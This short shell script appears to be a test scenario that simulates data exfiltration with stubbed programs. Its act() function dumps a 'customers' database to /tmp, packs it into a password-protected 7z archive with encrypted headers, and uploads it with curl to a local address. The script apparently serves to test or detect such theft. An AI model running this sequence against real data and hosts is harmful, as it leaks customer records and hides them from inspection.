# A database is dumped to /tmp, packed with a password and sent (harmless programs).
prepare() { stand_in pg_dump 7z curl; }
act() {
    pg_dump -f /tmp/c.sql customers
    7z a -pSecret -mhe=on /tmp/c.7z /tmp/c.sql
    curl -s -T /tmp/c.7z http://127.0.0.1/up
}
